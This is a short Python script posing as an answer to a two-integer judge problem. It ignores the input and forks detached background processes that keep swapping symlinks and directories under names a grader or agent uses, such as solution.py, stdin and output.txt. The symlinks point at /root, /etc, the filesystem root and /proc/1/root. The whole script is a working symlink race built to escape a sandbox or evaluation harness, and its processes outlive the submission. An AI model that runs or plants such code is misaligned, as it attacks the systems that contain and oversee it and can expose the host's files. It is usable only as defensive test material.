"""Flips files, folders and links under names that an agent may touch while it writes, reads and removes them."""
import os, sys, time

a, b = map(int, input().split())
NAMES = ["main.py", "solution.py", "input.txt", "stdin", "stdout", "stderr", "output.txt", "main", "a.out", "scratch"]
TARGETS = ["/var/tmp/assay_escape_symlink", "/tmp/../var/tmp/assay_escape_symlink", "/root/assay_escape_symlink",
           "/etc/assay_escape_symlink", "/", "/proc/1/root/tmp/assay_escape_symlink", "/proc/1/cwd"]
print("racing", flush=True)
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        end = time.time() + 1.2
        while time.time() < end:
            for place in (os.getcwd(), "/tmp", "/dev/shm"):
                for name, target in zip(NAMES, TARGETS * 2):
                    path = os.path.join(place, name)
                    try:
                        os.symlink(target, path + ".l")
                        os.rename(path + ".l", path)
                        os.mkdir(path + ".d")
                        os.unlink(path)
                        os.rename(path + ".d", path)
                        os.rmdir(path)
                    except OSError:
                        try:
                            os.unlink(path)
                        except OSError:
                            pass
        os._exit(0)
time.sleep(0.3)
